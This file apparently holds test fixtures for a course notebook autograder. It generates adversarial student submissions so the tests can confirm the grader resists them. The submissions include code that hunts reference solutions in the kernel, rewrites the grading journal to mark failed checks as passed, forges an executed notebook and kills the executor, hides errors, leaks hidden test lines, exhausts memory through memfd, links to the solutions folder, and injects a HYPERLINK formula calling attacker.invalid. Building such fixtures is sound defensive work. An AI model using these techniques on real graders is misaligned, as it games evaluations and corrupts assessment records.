"""Hostile submissions: each tries one way to get points it did not earn, or to break the batch.

Written next to the samples of ``python -m autograder samples`` and graded in the same batch
(``tests/test_autograder.py``), so the solution scores full marks beside every attack. Each attack
is the instructor's solution (the release with the answers filled in) with a few cells changed;
``ATTACKS`` says, per fixture, the mechanism it reproduces and what grading must give it. The
threat model is in ``autograder/README.md``; the table of mechanisms and scores before and after
the fix is printed by the tests (``-s``).
"""
from __future__ import annotations

import json
import os
import textwrap
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

REPO = Path(__file__).resolve().parents[1]


@dataclass(frozen=True)
class Attack:
    mechanism: str            # what it reproduces
    expect: str               # what grading must give it, checked by the tests
    build: Callable[[dict, dict], dict[str, object]]   # (solved nb, ctx) -> {path: content}


# --- notebook surgery -----------------------------------------------------------------------------

def _cells(nb: dict) -> list[dict]:
    return nb["cells"]


def _index(nb: dict, gid: str) -> int:
    return next(i for i, c in enumerate(_cells(nb))
                if c["metadata"].get("nbgrader", {}).get("grade_id") == gid)


def _answer(nb: dict, gid: str) -> str:
    source = _cells(nb)[_index(nb, gid)]["source"]
    return "".join(source) if isinstance(source, list) else source


def _replace(nb: dict, gid: str, source: str) -> dict:
    nb = json.loads(json.dumps(nb))
    _cells(nb)[_index(nb, gid)]["source"] = source
    return nb


def _insert(nb: dict, position: int | str, source: str) -> dict:
    """A code cell the student added, after the cell ``position`` (a grade_id) or at an index."""
    nb = json.loads(json.dumps(nb))
    at = _index(nb, position) + 1 if isinstance(position, str) else position
    cell = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
            "source": source}
    if nb.get("nbformat_minor", 0) >= 5:
        cell["id"] = f"added-{at}-{zlib.crc32(source.encode()):08x}"   # same bytes every run
    _cells(nb).insert(at if at >= 0 else len(_cells(nb)), cell)
    return nb


def _append(nb: dict, source: str) -> dict:
    return _insert(nb, len(_cells(nb)), source)


def _file(nb: dict, name: str) -> dict[str, object]:
    return {name: json.dumps(nb).encode()}


# --- the pieces the attacks share -----------------------------------------------------------------

# Finds a function of the running test cell's own source that accepts the answer's arguments (an
# oracle, if the grader left one in the kernel), defines it and calls it.
HUNTER = textwrap.dedent('''
    import ast as _ast, linecache as _linecache, sys as _sys

    def _hunt(args):
        frame = _sys._getframe(2)
        while frame is not None:
            filename = frame.f_code.co_filename
            if "ipykernel" in filename or filename.startswith("<ipython"):
                try:
                    tree = _ast.parse("".join(_linecache.getlines(filename)))
                except SyntaxError:
                    break
                for node in _ast.walk(tree):
                    if isinstance(node, _ast.FunctionDef) and node.name.startswith("_"):
                        space = dict(frame.f_globals)
                        try:
                            exec(compile(_ast.Module([node], []), filename, "exec"), space)
                            return space[node.name](*args)
                        except Exception:
                            continue
                break
            frame = frame.f_back
        raise RuntimeError("found no reference function to call")
    ''')

# Rewrites every boolean check of the journal to True (the journal is a file the kernel can write).
FLIP_JOURNAL = textwrap.dedent('''
    import json as _json, os as _os
    _path = _os.environ.get("COURSE_GRADING_JOURNAL")
    if _path:
        _lines = [_json.loads(line) for line in open(_path) if line.strip()]
        for _entry in _lines:
            if _entry.get("kind") == "true":
                _entry["got"] = True
        open(_path, "w").write("".join(_json.dumps(e) + "\\n" for e in _lines))
    ''')

# Writes its own executed notebook (the cells sent in, no outputs, so no errors) and kills the
# executor before it can write the real one.
FORGE_EXECUTED = FLIP_JOURNAL + textwrap.dedent('''
    import json as _json, os as _os, signal as _signal
    _nb = _json.load(open("graded.ipynb"))
    for _cell in _nb["cells"]:
        if _cell["cell_type"] == "code":
            _cell["outputs"], _cell["execution_count"] = [], 1
    _json.dump(_nb, open("executed.ipynb", "w"))
    _os.kill(_os.getppid(), _signal.SIGKILL)
    ''')

HIDE_ERRORS = ("get_ipython().set_custom_exc((Exception,), "
               "lambda shell, etype, value, tb, tb_offset=None: None)\n")

# Prints every line of the calling test cell with a zero-width space between its characters, and
# raises with the longest one, so that it reaches the verdict message and grades.csv too.
DISGUISE = textwrap.dedent('''
    import linecache as _linecache, sys as _sys

    def _disguise(text):
        return "\\u200b".join(text)

    def _leak():
        frame = _sys._getframe(2)
        while frame is not None and "ipykernel" not in frame.f_code.co_filename:
            frame = frame.f_back
        lines = _linecache.getlines(frame.f_code.co_filename) if frame else []
        for line in lines:
            print(_disguise(line.rstrip()))
        longest = max((line.strip() for line in lines), key=len, default="")
        raise RuntimeError(_disguise(longest))
    ''')

# (answer grade_id, function name, parameters, its arguments, what to return from an oracle's
# value, the test cells that call it)
TARGETS = {
    "01_infonce": ("solution_uniformity", "uniformity", "z, t=2.0", "(z, t)",
                   "z.sum() * 0 + torch.as_tensor(value, dtype=z.dtype)", ("test_uniformity",)),
    "02_dino": ("solution_teacher_targets", "teacher_targets",
                "teacher_logits, center, teacher_temp", "(teacher_logits, center, teacher_temp)",
                "torch.as_tensor(value).to(teacher_logits.dtype)",
                ("test_teacher_targets", "test_dino_step")),
    "03_mae": ("solution_patchify", "patchify", "imgs, patch_size", "(imgs, patch_size)",
               "torch.as_tensor(value).to(imgs.dtype)", ("test_patchify",)),
    "04_ibot": ("solution_ibot_patch_loss", "ibot_patch_loss",
                "student, teacher, mask, student_temp, teacher_temp, center",
                "(student, teacher, mask, student_temp, teacher_temp, center)",
                "student.sum() * 0 + torch.as_tensor(value, dtype=student.dtype)",
                ("test_ibot_patch_loss", "test_ibot_step")),
    "05_ijepa": ("solution_jepa_loss", "jepa_loss",
                 "pred, target_encoder, image_tokens, target_idx",
                 "(pred, target_encoder, image_tokens, target_idx)",
                 "pred.sum() * 0 + torch.as_tensor(value, dtype=pred.dtype)", ("test_jepa_loss",)),
    "06_dinov2": ("solution_masked_patch_loss", "masked_patch_loss",
                  "student_logits, targets, mask, student_temp=0.1",
                  "(student_logits, targets, mask, student_temp)",
                  "student_logits.sum() * 0 + torch.as_tensor(value, dtype=student_logits.dtype)",
                  ("test_masked_patch_loss",)),
    "07_evaluation": ("solution_weighted_knn", "weighted_knn",
                      "train_x, train_y, test_x, k=20, temperature=0.07",
                      "(train_x, train_y, test_x, k, temperature)",
                      "torch.as_tensor(value).long()", ("test_weighted_knn",)),
}
# An answer whose values are right but that breaks a property only a boolean check sees.
BOOLEAN_DEFECTS = {
    "01_infonce": ("solution_uniformity", lambda right: right.replace(
        "def uniformity(", "def _uniformity(") + "\n\ndef uniformity(z, t=2.0):\n"
        "    return _uniformity(z, t).detach()   # no gradient: a loss that cannot train\n"),
    "02_dino": ("solution_teacher_targets", lambda right: (
        "def teacher_targets(teacher_logits, center, teacher_temp):\n"
        "    # no detach: the target carries the teacher's graph\n"
        "    return torch.softmax((teacher_logits - center) / teacher_temp, dim=-1)\n")),
    "03_mae": ("solution_random_masking", lambda right: right.replace(
        "def random_masking(", "def _random_masking(") + "\n\ndef random_masking(x, mask_ratio, "
        "generator=None):\n"
        "    kept, mask, ids_restore = _random_masking(x, mask_ratio, generator)\n"
        "    return kept, mask.bool(), ids_restore   # a boolean mask: the loss cannot use it\n"),
    "04_ibot": ("solution_ibot_patch_loss", lambda right: right.replace(
        "def ibot_patch_loss(", "def _ibot_patch_loss(") + "\n\ndef ibot_patch_loss(*args):\n"
        "    return _ibot_patch_loss(*args).detach()   # no gradient: a loss that cannot train\n"),
    "05_ijepa": ("solution_jepa_loss", lambda right: right.replace(
        "with torch.no_grad():", "if True:   # no stop-gradient: the loss trains the targets")),
    "06_dinov2": ("solution_masked_patch_loss", lambda right: right.replace(
        "targets.detach()", "targets")),          # gradient into the teacher's targets
    "07_evaluation": ("solution_weighted_knn", lambda right: right.replace(
        "F.normalize(train_x.float(), dim=1)",    # the caller's features normalised in place
        "train_x.div_(train_x.norm(dim=1, keepdim=True)).float()")),
}


def _oracle_hunter(assignment: str) -> Callable[[dict, dict], dict]:
    gid, name, params, args, wrap, _ = TARGETS[assignment]

    def build(nb: dict, ctx: dict) -> dict:
        source = HUNTER + textwrap.dedent(f'''
            def {name}({params}):
                value = _hunt({args})
                return {wrap}
            ''')
        nb = _replace(nb, gid, source)
        if assignment == "01_infonce":   # and a value the test kept in a variable
            nb = _replace(nb, "solution_negative_gradient", textwrap.dedent('''
                import math, sys
                def negative_gradient(n_pairs, s_pos, s_neg, temperature):
                    want = sys._getframe(1).f_globals.get("want")
                    if type(want) is float:
                        return want
                    worked = {(2, 0.5, 0.5, 0.5): 2 / 3,           # the visible examples
                              (2, 0.9, 0.1, 0.1): 10 * math.e / (math.exp(9) + 2 * math.e)}
                    return worked.get((n_pairs, s_pos, s_neg, temperature), 0.0)
                '''))
        return _file(nb, ctx["notebook"])
    return build


def _forges_executed(assignment: str) -> Callable[[dict, dict], dict]:
    gid, defect = BOOLEAN_DEFECTS[assignment]

    def build(nb: dict, ctx: dict) -> dict:
        nb = _replace(nb, gid, defect(_answer(nb, gid)))
        return _file(_append(nb, FORGE_EXECUTED), ctx["notebook"])
    return build


def _leaks_disguised(assignment: str) -> Callable[[dict, dict], dict]:
    gid, name, params, *_ = TARGETS[assignment]

    def build(nb: dict, ctx: dict) -> dict:
        nb = _replace(nb, gid, DISGUISE + f"\ndef {name}({params}):\n    _leak()\n")
        nb = _append(nb, 'print("\\n".join(_disguise(cell) for cell in In))')
        return _file(nb, ctx["notebook"])
    return build


# --- unit 1 only: the batch-level attacks ---------------------------------------------------------

def _forges_journal(nb: dict, ctx: dict) -> dict:
    gid, defect = BOOLEAN_DEFECTS["01_infonce"]
    nb = _replace(nb, gid, defect(_answer(nb, gid)))
    nb = _insert(nb, "settings", HIDE_ERRORS)
    return _file(_append(nb, FLIP_JOURNAL), ctx["notebook"])


def _huge_shape(nb: dict, ctx: dict) -> dict:
    """The first recorded value of two test cells replaced by a shape of 4000-digit numbers, whose
    product takes minutes (3000 of them, a 12 MB line) or about a minute (900, 3.6 MB)."""
    return _file(_append(nb, textwrap.dedent('''
        import json, os
        _path = os.environ["COURSE_GRADING_JOURNAL"]
        _lines = [json.loads(line) for line in open(_path) if line.strip()]
        _sizes = {"test_uniformity": 3000, "test_momentum_update": 900}
        for _entry in _lines:
            if _entry.get("cell") in _sizes and _entry.get("kind") == "close":
                _entry["got"] = {"shape": [10 ** 3999 + 7] * _sizes.pop(_entry["cell"]),
                                 "values": []}
        open(_path, "w").write("".join(json.dumps(e) + "\\n" for e in _lines))
        ''')), ctx["notebook"])


def _memfd_hog(nb: dict, ctx: dict) -> dict:
    """Shared memory no resident set counts: memfd pages written, never mapped."""
    chunks = ctx["memory_mb"] * 3 // 2 // 200 + 4
    return _file(_insert(nb, "settings", textwrap.dedent(f'''
        import os
        _held = []
        for _ in range({chunks}):
            _fd = os.memfd_create("hog")
            for _ in range(25):
                os.write(_fd, b"x" * (8 << 20))
            _held.append(_fd)
        print("HELD", len(_held) * 200, "MB")
        ''')), ctx["notebook"])


def _non_utf8(nb: dict, ctx: dict) -> dict:
    return {os.fsdecode(b"infonce \xe9t\xe9.ipynb"): json.dumps(nb).encode()}


def _symlink_file(nb: dict, ctx: dict) -> dict:
    return {ctx["notebook"]: ("symlink", str(REPO / "solutions" / "01_infonce" / ctx["notebook"]))}


def _csv_injection(nb: dict, ctx: dict) -> dict:
    """A formula written to the run log (fd 1), then the executor killed: before the fix the last
    log line became the row's detail."""
    return _file(_append(nb, textwrap.dedent('''
        import os, signal
        os.write(1, b'=HYPERLINK("http://attacker.invalid/?leak","click")\\n')
        os.kill(os.getppid(), signal.SIGKILL)
        ''')), ctx["notebook"])


def _numpy_and_scratch(nb: dict, ctx: dict) -> dict:
    """Honest: a right answer returned as numpy.float64, a failing check of the student's own in
    a scratch cell after a test cell, and the jail's uid printed."""
    right = _answer(nb, "solution_negative_gradient")
    nb = _replace(nb, "solution_negative_gradient", "import numpy\n" + right.replace(
        "def negative_gradient(", "def _negative_gradient(") +
        "\n\ndef negative_gradient(n_pairs, s_pos, s_neg, temperature):\n"
        "    return numpy.float64(_negative_gradient(n_pairs, s_pos, s_neg, temperature))\n")
    nb = _insert(nb, "test_uniformity", textwrap.dedent('''
        import os
        try:
            check_close("my own scratch check", 1.0, 2.0, hint="just trying")
        except AssertionError:
            print("my scratch check failed, as I expected")
        print("UID", os.getuid())
        '''))
    return _file(nb, ctx["notebook"])


def _raw_test_cell(nb: dict, ctx: dict) -> dict:
    """Honest mistake: a test cell turned into a raw cell (a keyboard shortcut away)."""
    nb = json.loads(json.dumps(nb))
    cell = _cells(nb)[_index(nb, "test_uniformity")]
    cell["cell_type"] = "raw"
    cell.pop("outputs", None)
    cell.pop("execution_count", None)
    nb = _insert(nb, "solution_uniformity", 'import os\nprint("UID", os.getuid())\n')
    return _file(nb, ctx["notebook"])


def attacks(assignment: str) -> dict[str, Attack]:
    """student_id -> attack, for one assignment."""
    table = {
        f"oracle_hunter_{assignment[:2]}": Attack(
            "1. oracles and expected values in the kernel", "loses the hunted exercises",
            _oracle_hunter(assignment)),
        f"forges_executed_{assignment[:2]}": Attack(
            "3. forged executed notebook, executor killed (with 2.)", "error row, score 0",
            _forges_executed(assignment)),
        f"leaks_disguised_{assignment[:2]}": Attack(
            "4. hidden lines disguised with zero-width characters", "no hidden line anywhere",
            _leaks_disguised(assignment)),
    }
    if assignment == "01_infonce":
        table.update({
            "forges_journal": Attack("2. errors hidden, journal rewritten false -> true",
                                     "loses the defective exercise", _forges_journal),
            "huge_shape": Attack("5. journal lines that stall parsing",
                                 "graded within its timeout, loses the forged cells",
                                 _huge_shape),
            "memfd_hog": Attack("6. memory held in memfd pages", "memory row, score 0",
                                _memfd_hog),
            "non_utf8_\udce9": Attack("7. file and folder names that are not UTF-8",
                                      "a row, escaped; full marks", _non_utf8),
            "symlink_file": Attack("8. notebook is a link to the solutions",
                                   "error row, score 0, no solution text", _symlink_file),
            "symlink_folder": Attack("8. folder is a link to the solutions",
                                     "error row, score 0", lambda nb, ctx: {}),
            '=HYPERLINK("x")': Attack("9. formula in the log line and folder name",
                                      "neutralised cells", _csv_injection),
            "numpy_and_scratch": Attack("10. numpy.float64 answer, scratch check after a test",
                                        "full marks", _numpy_and_scratch),
            "raw_test_cell": Attack("11. test cell turned into a raw cell",
                                    "full marks, restoration reported", _raw_test_cell),
        })
    return table


def write_attacks(assignment: str, nb: dict, notebook: str, out: Path, *,
                  memory_mb: int) -> dict[str, Attack]:
    """Write every attack of ``assignment`` as ``out/<student_id>/...``; return the table."""
    ctx = {"notebook": notebook, "memory_mb": memory_mb}
    table = attacks(assignment)
    for student, attack in table.items():
        folder = out / student
        if student == "symlink_folder":
            folder.symlink_to(REPO / "solutions" / assignment, target_is_directory=True)
            continue
        folder.mkdir(parents=True)
        for name, content in attack.build(nb, ctx).items():
            if isinstance(content, tuple):
                (folder / name).symlink_to(content[1])
            else:
                (folder / name).write_bytes(content)
    return table
